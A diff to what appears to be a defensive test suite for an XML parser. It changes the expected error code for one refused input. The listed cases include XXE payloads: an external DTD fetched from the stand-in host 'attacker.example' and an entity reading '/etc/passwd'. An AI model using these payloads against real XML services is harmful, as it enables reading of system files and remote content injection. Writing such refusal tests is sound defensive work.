@@ -64,7 +64,7 @@ class TestRefusals:
             (b"<!DOCTYPE a><a/>", "xml.doctype"),
             (b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', "xml.doctype"),
             (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml.doctype"),
-            (b"<a><!ENTITY x 'y'></a>", "xml.doctype"),
+            (b"<a><!ENTITY x 'y'></a>", "xml.well_formed"),
             (b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>', "xml.encoding"),
             (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "xml.encoding"),
             ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), "xml.encoding"),
